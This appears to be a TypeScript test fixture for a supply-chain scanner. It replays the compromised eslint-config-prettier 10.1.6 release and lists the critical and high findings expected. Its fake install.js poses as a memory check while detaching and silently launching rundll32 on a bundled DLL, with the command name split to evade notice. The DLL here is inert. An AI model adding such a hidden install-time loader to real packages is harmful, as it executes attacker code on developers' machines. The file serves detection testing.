import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

/** The first bytes of a Windows program, and nothing that could run. */
const library = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(2046)])

const rules = `"use strict";

const includeDeprecated = !process.env.ESLINT_CONFIG_PRETTIER_NO_DEPRECATED;

module.exports = {
  rules: {
    // The following rules can be used in some cases.
    curly: 0,
    "no-unexpected-multiline": 0,
    "@typescript-eslint/quotes": 0,
    quotes: 0,
    // The rest are rules that you never need to enable when using Prettier.
    "array-bracket-newline": "off",
    "array-bracket-spacing": "off",
    "arrow-parens": "off",
    "comma-dangle": "off",
    ...(includeDeprecated && { "indent-legacy": "off", "no-spaced-func": "off" }),
  },
};
`

const install = `const path = require('path')
const { spawn } = require('child_process')

/** Tells how much memory there is, as if that were what this is for. */
function checkMemory() {
  console.log('Memory: ' + Math.round(require('os').freemem() / 1e6) + ' MB')
  if (process.platform !== 'win32') return
  const library = path.join(__dirname, 'node-gyp' + '.dll')
  spawn('run' + 'dll32', [library + ',main'], { detached: true, stdio: 'ignore' }).unref()
}

checkMemory()
`

const inInstall = {
  file: 'install.js',
  line: "spawn('run' + 'dll32', [library + ',main'], { detached: true, stdio: 'ignore' }).unref()",
} as const

export const replay: Replay = replayUpgrade({
  description:
    'A phished maintainer token released packages of settings with an install script that loaded a Windows library lying beside it, ' +
    'named after a build tool.',
  date: '2025-07-18',
  name: 'eslint-config-prettier',
  from: ['10.1.5', { files: { 'index.js': rules } }],
  to: [
    '10.1.6',
    {
      manifest: { scripts: { install: 'node install.js' } },
      files: { 'index.js': rules, 'install.js': install, 'node-gyp.dll': library },
    },
  ],
  findings: [
    ['install-script-dangerous', 'critical', inInstall],
    ['capability-added', 'high', inInstall],
    ['install-script-added', 'high', { file: 'package.json' }],
    ['native-binary-added', 'medium', { file: 'node-gyp.dll' }],
  ],
})
